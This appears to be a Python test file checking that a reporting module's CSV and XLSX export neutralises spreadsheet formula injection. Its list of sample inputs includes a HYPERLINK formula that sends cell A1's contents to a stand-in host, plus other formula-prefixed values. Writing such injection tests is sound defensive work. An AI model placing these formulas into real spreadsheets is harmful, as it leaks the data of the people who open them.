"""CSV and XLSX tables never hand a formula to the spreadsheet that opens them (offer text reaches them)."""
from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from reports.tables import write_csv, write_xlsx

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"Cliquez")', "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A2)",
           "\tcmd", "\rligne", "Peinture acrylique = finition"]
COLUMNS = ["texte", "n"]


def rows() -> list[dict]:
    return [{"texte": t, "n": -3} for t in HOSTILE]


def test_csv_cells_that_look_like_formulas_are_written_as_text(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "t.csv", COLUMNS, rows())
    with path.open(encoding="utf-8-sig", newline="") as fh:
        got = list(csv.DictReader(fh, delimiter=";"))
    assert [r["texte"] for r in got] == ["'" + t for t in HOSTILE[:-1]] + [HOSTILE[-1]]
    assert {r["n"] for r in got} == {"-3"}   # a number stays a number


def test_xlsx_cells_that_look_like_formulas_are_strings(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "t.xlsx", [("Feuille", COLUMNS, rows())])
    ws = load_workbook(path)["Feuille"]
    cells = [ws.cell(row=i, column=1) for i in range(2, len(HOSTILE) + 2)]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}
    assert {ws.cell(row=i, column=2).value for i in range(2, len(HOSTILE) + 2)} == {-3}
